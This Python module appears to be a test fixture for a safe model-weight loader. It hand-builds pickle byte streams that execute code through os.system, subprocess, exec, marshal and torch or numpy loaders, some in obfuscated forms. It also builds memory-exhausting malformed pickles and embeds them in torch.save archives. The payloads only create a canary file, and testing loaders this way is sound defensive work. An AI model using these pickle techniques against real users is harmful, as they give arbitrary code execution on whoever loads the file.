"""Pickles that would run code, or fill the memory, if anything loaded them as Python objects.

What they would run writes the file that the environment variable `trying.CANARY` names.
"""

import io
import pickle
import struct
import zipfile

from trying import CANARY

TENSOR = "embeddings.word_embeddings.weight"
PYTHON = f"import os; open(os.environ['{CANARY}'], 'w').close()"
SHELL = f'touch "${CANARY}"'


def global_of(module, name):
    """The opcodes for an attribute of a module."""
    return b"c" + f"{module}\n{name}\n".encode()


def text(value):
    encoded = value.encode()
    return b"X" + struct.pack("<I", len(encoded)) + encoded


def call(module, name, *arguments):
    """The opcodes for a call with texts, or with opcodes, as its arguments."""
    parts = b"".join(one if isinstance(one, bytes) else text(one) for one in arguments)
    return global_of(module, name) + b"(" + parts + b"tR"


def calls():
    """Opcodes by words for what they call."""
    popen = b"(" + text("sh") + text("-c") + text(SHELL) + b"l"
    code = compile(PYTHON, "a", "exec")
    module, ordered = b"(" + global_of("os", "path"), global_of("collections", "OrderedDict")
    return {
        "os.system": call("os", "system", SHELL),
        "posix.system": call("posix", "system", SHELL),
        "subprocess.Popen": call("subprocess", "Popen", popen),
        "subprocess.check_output": call("subprocess", "check_output", popen),
        "builtins.exec": call("builtins", "exec", PYTHON),
        "builtins.eval": call("builtins", "eval", f"exec({PYTHON!r})"),
        "builtins.compile": call("builtins", "exec", call("builtins", "compile", PYTHON, "a", "exec")),
        "builtins.__import__": call("builtins", "__import__", "antigravity"),
        "pty.spawn": call("pty", "spawn", popen),
        "runpy.run_path": call("runpy", "run_path", "payload.py"),
        "timeit.timeit": call("timeit", "timeit", PYTHON),
        "code.interact": call("code", "InteractiveInterpreter.runsource", PYTHON),
        "pickle.loads": call("pickle", "loads", b"C" + bytes([len(inner := call("os", "getcwd") + b".")]) + inner),
        "functools.partial": call("functools", "partial", global_of("os", "system"), SHELL) + b")R",
        "operator.methodcaller": call("operator", "methodcaller", "system", SHELL) + module + b"tR",
        "types.FunctionType": call("types", "FunctionType", call("marshal", "loads", marshalled(code)), b"}") + b")R",
        "torch.hub.load": call("torch.hub", "load", "evil/evil", "evil"),
        "torch.load": call("torch", "load", "payload.bin"),
        "torch.jit.load": call("torch.jit", "load", "payload.pt"),
        "torch._utils._import_dotted_name": call("torch._utils", "_import_dotted_name", "os.system"),
        "torch.utils._config_module.load_config": call("torch.utils._config_module", "load_config", b"C\x00"),
        "numpy.load": call("numpy", "load", "payload.npy"),
        "numpy.testing.runstring": call("numpy.testing._private.utils", "runstring", PYTHON, b"}"),
        "an instruction of old pickles": b"(" + text(SHELL) + b"ios\nsystem\n",
        "an object with a state": ordered + b")R}" + text("a") + call("os", "system", SHELL) + b"sb",
        "a call within a list": b"](" + call("os", "system", SHELL) + b"e",
        "a call as a tensor": b"}" + text(TENSOR) + call("os", "system", SHELL) + b"s",
        "a stacked global": text("os") + text("system") + b"\x93(" + text(SHELL) + b"tR",
        "a method of a type": call("builtins", "getattr", global_of("builtins", "str"), "mro") + b")R",
        "a chain of attributes": b"\x80\x04" + text("os") + text("path.os.system") + b"\x93(" + text(SHELL) + b"tR",
    }


def marshalled(code):
    """Opcodes for the bytes of a function's code."""
    import marshal

    content = marshal.dumps(code)
    return b"B" + struct.pack("<I", len(content)) + content


def broken():
    """Pickles by words for what is wrong with them; none calls anything."""
    tensor = b"ctorch._utils\n_rebuild_tensor_v2\n"
    storage = b"(" + text("storage") + global_of("torch", "FloatStorage") + text("0") + text("cpu") + b"K\x04tQ"
    return {
        "nothing but its end": b".",
        "no end": b"}",
        "lists in lists": b"]" * 100_000 + b"a" * 99_999 + b".",
        "tuples in tuples": b")" + b"\x85" * 100_000 + b".",
        "marks without end": b"(" * 1_000_000 + b".",
        "a text that is longer than the file": b"\x8d" + struct.pack("<Q", 2**50) + b"a.",
        "a number of two thousand million bytes": b"\x8b" + struct.pack("<i", 2**31 - 1) + b"a.",
        "a list that contains itself twice, many times": b"".join(
            [b"]q\x00", *[b"](h" + bytes([k]) + b"h" + bytes([k]) + b"eq" + bytes([k + 1]) for k in range(60)], b"."]
        ),
        "an extension that is not registered": b"\x82\x01.",
        "an identity that persists": b"Pevil\n.",
        "a protocol of the future": b"\x80\xff}.",
        "a memo that is not there": b"h\x05.",
        "a stack that is empty": b"0.",
        "a tensor with a size beyond its storage": tensor
        + b"("
        + storage
        + b"K\x00(J\xff\xff\xff\x7fJ\xff\xff\xff\x7ftK\x01K\x01\x86\x89)R"
        + b"tR.",
        "a tensor with a negative size": tensor + b"(" + storage + b"K\x00(J\xff\xff\xff\xfft(K\x01t\x89" + b"}tR.",
        "a tensor with an offset beyond its storage": tensor
        + b"("
        + storage
        + b"J\xff\xff\xff\x7f(K\x04t(K\x01t\x89}tR.",
        "a dictionary of a text": pickle.dumps({"a": "b"}, 2),
        "a dictionary of numbers": pickle.dumps({"embeddings.word_embeddings.weight": 5}, 2),
        "a list": pickle.dumps([1, 2], 2),
        "a text": pickle.dumps("weights", 2),
        "null": pickle.dumps(None, 2),
    }


def in_archive(pickled, original):
    """An archive that torch.save wrote, with another pickle in it."""
    stream = io.BytesIO()
    with zipfile.ZipFile(original) as old, zipfile.ZipFile(stream, "w") as new:
        for name in old.namelist():
            new.writestr(name, pickled if name.endswith("data.pkl") else old.read(name))
    return stream.getvalue()
